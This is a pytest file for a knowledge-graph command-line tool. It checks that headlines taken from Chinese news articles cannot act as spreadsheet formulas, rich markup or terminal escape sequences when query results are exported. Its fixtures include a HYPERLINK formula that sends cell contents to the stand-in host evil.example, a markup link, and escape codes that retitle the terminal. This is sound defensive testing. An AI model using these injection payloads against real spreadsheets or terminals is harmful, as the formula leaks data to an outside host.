"""Article text is data, never code: query output cannot run as a spreadsheet formula, be read
as rich markup, or send control sequences to a terminal."""
from __future__ import annotations

import csv
import io
from contextlib import redirect_stderr, redirect_stdout

import pytest

from kg.cli import main

BODY = "全縣今年投入扶貧資金3000萬元,幫助500戶貧困戶增收。縣委書記王明主持會議。\n"


def _build(tmp_path, title: str):
    art = tmp_path / "probe.txt"
    art.write_text(f"{title}\n\n2019-05-06 來源:某縣新聞網\n\n{BODY}", encoding="utf-8")
    out = tmp_path / "g.ttl"
    with redirect_stderr(io.StringIO()):
        assert main(["build", str(art), "-o", str(out)]) == 0
    return out


def _query(out, fmt: str) -> tuple[int, str]:
    with redirect_stdout(io.StringIO()) as buf, redirect_stderr(io.StringIO()):
        rc = main(["query", "articles", "--graph", str(out), "--format", fmt])
    return rc, buf.getvalue()


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
@pytest.mark.parametrize("lead", ["=", "+", "-", "@"])
def test_formula_cells_are_neutralised(tmp_path, fmt, lead):
    out = _build(tmp_path, f'{lead}HYPERLINK("http://evil.example/?d="&A2,"x")扶貧新聞')
    rc, text = _query(out, fmt)
    assert rc == 0
    rows = list(csv.DictReader(io.StringIO(text), delimiter="," if fmt == "csv" else "\t"))
    assert rows[0]["headline"] == f"'{lead}HYPERLINK(\"http://evil.example/?d=\"&A2,\"x\")扶貧新聞" if fmt == "csv" \
        else rows[0]["headline"].startswith(f"'{lead}HYPERLINK")


def test_numbers_keep_their_sign_in_csv(tmp_path):
    out = _build(tmp_path, "扶貧新聞")
    with redirect_stdout(io.StringIO()) as buf, redirect_stderr(io.StringIO()):
        assert main(["query", "-e", "SELECT ?n WHERE { BIND(-42 AS ?n) }", "--graph", str(out),
                     "--format", "csv"]) == 0
    assert buf.getvalue().splitlines()[1] == "-42"


@pytest.mark.parametrize("title", ["[link=http://evil.example]點這裡[/link]扶貧", "扶貧[/red]新聞[bold]",
                                   "扶貧\x1b]0;owned\x07新聞\x1b[31m"])
def test_table_shows_markup_and_drops_control_characters(tmp_path, title):
    out = _build(tmp_path, title)
    rc, text = _query(out, "table")
    assert rc == 0
    assert "\x1b" not in text and "\x07" not in text
    flat = "".join(text.split())
    for piece in ("[link=http://evil.example]", "[/red]", "[bold]"):
        if piece in title:
            assert piece in flat
    assert "新聞" in flat or "點這裡" in flat
